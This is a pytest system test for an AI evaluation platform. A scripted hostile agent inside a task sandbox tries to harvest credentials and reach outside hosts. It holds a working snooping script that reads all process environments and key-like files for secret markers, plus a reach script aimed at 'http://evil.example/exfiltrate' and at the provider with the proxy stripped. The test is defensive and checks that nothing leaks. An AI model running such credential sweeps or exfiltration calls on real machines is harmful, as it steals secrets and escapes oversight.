"""A hostile agent in a Harbor task: it looks for credentials and reaches out, and gets
nothing but a log of what it tried.

The platform's agent runs a scripted model whose tool calls attack from inside the
task's sandbox: dump the environment, read every process's ``environ`` and
``cmdline`` and every key-like file it can reach, call a host the account's policy
blocks, and call the model's provider directly. The task asks for the public network,
so the sandbox has the run's egress injector, and the account has a vault secret that
the model proxy puts on provider calls. What must hold:

* no credential (the deployment's provider key, the vault's values, the run's proxy
  key) is in anything the agent saw: every tool output is in the run's log, whole
  when short, and each attack prints what it found;
* the blocked host is in the run's blocked-host log; the provider is not reachable
  from the sandbox, directly or through the injector;
* the model's calls still carried the vault's value upstream (the proxy attached it);
* the run finishes, the task is scored by its verifier.
"""

import json
import textwrap
from typing import Any

import pytest

from benchwright import AsyncBenchwright
from tests.conftest import Platform
from tests.support.scripted_agent_model import ScriptBook, ScriptedAgentServer, call, final
from tests.system.test_leaderboards import finish

pytestmark = [pytest.mark.slow, pytest.mark.connected, pytest.mark.embedded_only]

ENV_PROVIDER_KEY = "sk-or-v1-deployment-key-never-in-an-agent-sandbox"
MODEL_SECRET = "sk-model-upstream-vault-value-agent-4d1e"
MARKERS = ("sk-or-", "sk-model-", "bw_proxy_", "OPENROUTER")
INSTRUCTION = "Find out what you can about the machine you are on."

SNOOP = textwrap.dedent(
    """
    import os
    MARKERS = {markers!r}
    places = {{"env": "\\n".join(f"{{k}}={{v}}" for k, v in os.environ.items())}}
    for pid in os.listdir("/proc"):
        for part in ("environ", "cmdline"):
            try:
                places[pid + "/" + part] = open(f"/proc/{{pid}}/{{part}}", "rb").read().decode()
            except (OSError, UnicodeDecodeError):
                pass
    for root, _, files in os.walk("/", onerror=lambda e: None):
        if root.startswith(("/proc", "/sys", "/dev")):
            continue
        for name in files:
            if name.endswith((".key", ".sqlite", ".json", ".pem", ".env", ".yaml", ".toml")):
                try:
                    places[os.path.join(root, name)] = open(
                        os.path.join(root, name), "rb"
                    ).read().decode(errors="replace")
                except OSError:
                    pass
    found = [p for p, text in places.items() if any(m in text for m in MARKERS)]
    print("ESCAPED: " + ", ".join(found) if found else f"clean: {{len(places)}} places")
    """
).format(markers=MARKERS)

REACH = textwrap.dedent(
    """
    import os, sys, urllib.request
    url = sys.argv[1]
    proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
    handlers = [urllib.request.ProxyHandler({"http": proxy} if proxy else {})]
    try:
        with urllib.request.build_opener(*handlers).open(url, timeout=10) as answer:
            print("REACHED", answer.status, answer.read()[:200])
    except Exception as exc:
        print("REFUSED", type(exc).__name__, exc)
    """
)


def dataset() -> dict[str, str]:
    task = "snoop"
    return {
        f"{task}/task.toml": textwrap.dedent(
            """
            schema_version = "1.1"
            [verifier]
            timeout_sec = 60.0
            [agent]
            timeout_sec = 300.0
            [environment]
            network_mode = "public"
            """
        ),
        f"{task}/instruction.md": INSTRUCTION + "\n",
        f"{task}/environment/Dockerfile": "FROM python:3.12-slim\nWORKDIR /app\n",
        f"{task}/tests/test.sh": (
            "#!/bin/bash\nmkdir -p /logs/verifier\necho 1 > /logs/verifier/reward.txt\n"
        ),
    }


def script(model_port: int) -> ScriptBook:
    provider = f"http://127.0.0.1:{model_port}/v1/models"
    return ScriptBook(
        {
            INSTRUCTION: [
                call("shell", command="env"),
                call("write_file", path="/app/snoop.py", content=SNOOP),
                call("shell", command="python3 /app/snoop.py"),
                call("write_file", path="/app/reach.py", content=REACH),
                call("shell", command="python3 /app/reach.py http://evil.example/exfiltrate"),
                call("shell", command=f"python3 /app/reach.py {provider}"),
                call(
                    "shell",
                    command=f"env -u HTTP_PROXY -u http_proxy python3 /app/reach.py {provider}",
                ),
                final("looked around"),
            ]
        }
    )


@pytest.fixture
def model(monkeypatch: pytest.MonkeyPatch) -> Any:
    # The deployment's own provider keys sit in the services' environment.
    monkeypatch.setenv("BW_OPENROUTER_API_KEY", ENV_PROVIDER_KEY)
    monkeypatch.setenv("OPENAI_API_KEY", ENV_PROVIDER_KEY)
    server = ScriptedAgentServer(ScriptBook({})).start()
    # The script names the model's own address: known once it listens.
    server.book.scripts = script(server.port).scripts
    yield server
    server.stop()


async def test_a_hostile_agent_finds_no_credential_and_its_reach_is_logged(
    platform: Platform, bw: AsyncBenchwright, model: ScriptedAgentServer
) -> None:
    client = platform.client
    assert client
    secret = await client.post(
        "/v1/secrets",
        json={
            "name": "MODEL_KEY",
            "value": MODEL_SECRET,
            "rules": [{"host_pattern": "127.0.0.1", "inject_kind": "bearer"}],
        },
    )
    assert secret.status_code == 201, secret.text
    policy = await client.patch(
        "/v1/host-policy", json={"add": [{"pattern": "evil.example", "action": "block"}]}
    )
    assert policy.status_code < 300, policy.text

    launched = await bw.runs.launch(
        harness="harbor",
        sut={"model": "scripted", "provider": "openai_compatible", "api_base": model.base_url},
        metadata={
            "harbor_harness": {"dataset": "hostile", "files": dataset(), "agent": "benchwright"}
        },
    )
    run = await finish(bw, launched.id)
    assert run.summary.total == 1 and run.summary.passed == 1

    results = (await bw.runs.events(run.id, types=["AgentToolResult"], limit=100)).data
    outputs = [e.data["output"] for e in results]
    assert len(outputs) == 7, outputs
    assert all(not e.data["truncated"] for e in results)
    everything = json.dumps(outputs)
    for needle in (ENV_PROVIDER_KEY, MODEL_SECRET, *MARKERS):
        assert needle not in everything, (needle, outputs)
    env_dump, _, snooped, _, evil, provider_via_egress, provider_direct = outputs
    assert "PATH=" in env_dump
    assert snooped.startswith("clean: "), snooped
    assert evil.startswith("REFUSED") and "403" in evil, evil
    assert provider_via_egress.startswith("REFUSED"), provider_via_egress
    assert provider_direct.startswith("REFUSED"), provider_direct

    blocked = (await client.get(f"/v1/runs/{run.id}/blocked-hosts")).json()["data"]
    assert "evil.example" in {b["host"] for b in blocked}, blocked

    # The proxy put the vault's value on the model's calls; the agent never held it.
    assert model.requests
    assert all(
        r["headers"].get("authorization") == f"Bearer {MODEL_SECRET}" for r in model.requests
    )
